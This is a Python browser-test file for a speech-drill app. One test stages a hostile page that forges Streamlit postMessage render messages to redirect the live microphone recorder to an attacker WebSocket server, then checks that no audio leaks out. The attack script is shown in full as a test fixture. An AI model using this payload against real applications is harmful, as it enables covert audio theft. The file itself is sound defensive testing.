"""A page on another origin cannot take the microphone: it opens the app (window.open), posts its
own ws:// address into the live recorder's frame over and over, and the user presses Start.
Nothing reaches its server; the app's own capture server gets the answer."""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from appdriver import AppServer, free_port
from websockets.sync.server import serve

from rehearse.settings import load_settings
from rehearse.store import database

pytestmark = [pytest.mark.slow, pytest.mark.browser]

ATTACK_PAGE = """<!doctype html><html><body>
<button id="go" onclick="go()">Open the app</button>
<script>
let w = null;
function go() {
  w = window.open(%(app)r, "app");
  setInterval(() => {
    if (!w) return;
    for (let i = 0; i < w.frames.length; i++) {
      try {
        w.frames[i].postMessage({isStreamlitMessage: true, type: "streamlit:render",
          args: {url: %(ws)r, show_words: true, reason: ""}}, "*");
      } catch (e) {}
    }
  }, 50);
}
</script></body></html>"""


class Thief:
    """The hostile origin: a page on one loopback port, a WebSocket server on another."""

    def __init__(self, app_url: str):
        self.connections, self.bytes = 0, 0
        self.ws_port = free_port()
        self.ws = serve(self._take, "127.0.0.1", self.ws_port)
        threading.Thread(target=self.ws.serve_forever, daemon=True).start()
        page = (
            ATTACK_PAGE % {"app": app_url, "ws": f"ws://127.0.0.1:{self.ws_port}/AAAAAAAAAAAAAAAAAAAAAAAA"}
        ).encode()

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(page)

            def log_message(self, *args):
                pass

        self.http = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.http.serve_forever, daemon=True).start()
        # localhost, like the app: SameSite ignores ports, so the app's cookie goes with window.open.
        self.url = f"http://localhost:{self.http.server_address[1]}/"

    def _take(self, conn):
        self.connections += 1
        for message in conn:
            self.bytes += len(message)

    def close(self):
        self.ws.shutdown()
        self.http.shutdown()


@pytest.fixture
def live_server(tmp_path, shots):
    server = AppServer(
        home=tmp_path / "home", workdir=tmp_path / "server", env={"REHEARSE_LIVE": "1", "HF_HUB_OFFLINE": "1"}
    ).start()
    yield server
    server.stop()


def test_another_origin_cannot_point_the_live_recorder_at_its_server(live_server, chromium, shots, record_seconds):
    from playwright.sync_api import expect

    context = chromium.new_context(permissions=["microphone"], viewport={"width": 1000, "height": 1200})
    thief = Thief(live_server.url(key=False))
    try:
        first = context.new_page()
        first.goto(live_server.url())  # the user opened the app before: the key is in a cookie now
        first.get_by_role("button", name="Start drill").wait_for(timeout=120_000)
        first.goto(thief.url)
        with first.expect_popup() as popup:
            first.get_by_role("button", name="Open the app").click()
        app = popup.value
        app.get_by_role("button", name="Start drill").click(timeout=120_000)
        recorder = app.frame_locator('iframe[title*="live_recorder"]')
        start = recorder.get_by_role("button", name="Start recording")
        start.wait_for(timeout=120_000)
        app.wait_for_timeout(1500)  # the hostile render messages keep arriving
        start.click()
        app.wait_for_timeout(1000 * record_seconds)
        recorder.get_by_role("button", name="Stop").click()
        # The answer card's stars: the answer was saved and transcribed (its headline varies).
        expect(app.get_by_test_id("stFeedback").first).to_be_visible(timeout=90_000)
        app.screenshot(path=str(shots / "after-hostile-messages.png"), full_page=True)
    finally:
        context.close()
        thief.close()
    assert thief.connections == 0 and thief.bytes == 0
    settings = load_settings({"REHEARSE_HOME": str(live_server.home)})
    db = database.open_database(settings)
    [answer] = database.session_answers(db, database.list_sessions(db)[0].id)
    assert answer.status == "transcribed" and answer.duration > 1, answer.error


def test_a_bare_streamlit_run_shows_nothing_but_how_to_start_it(tmp_path, chromium):
    """Without the guard (not started through rehearse.web.serve) the app would answer anyone."""
    import os
    import subprocess
    import sys
    import time
    import urllib.request

    from appdriver import ROOT

    port = free_port()
    env = {**os.environ, "HOME": str(tmp_path), "REHEARSE_HOME": str(tmp_path / "home"), "REHEARSE_LIVE": "0"}
    proc = subprocess.Popen(
        [sys.executable, "-m", "streamlit", "run", "streamlit_app.py", "--server.port", str(port)],
        cwd=ROOT,
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                urllib.request.urlopen(f"http://127.0.0.1:{port}/_stcore/health", timeout=2).close()
                break
            except OSError:
                assert time.monotonic() < deadline
                time.sleep(0.3)
        page = chromium.new_page()
        page.goto(f"http://localhost:{port}/")
        page.get_by_text("started without its guard").wait_for(timeout=60_000)
        assert page.get_by_role("button", name="Start drill").count() == 0
        page.close()
    finally:
        os.killpg(proc.pid, 15)
        proc.wait(timeout=30)
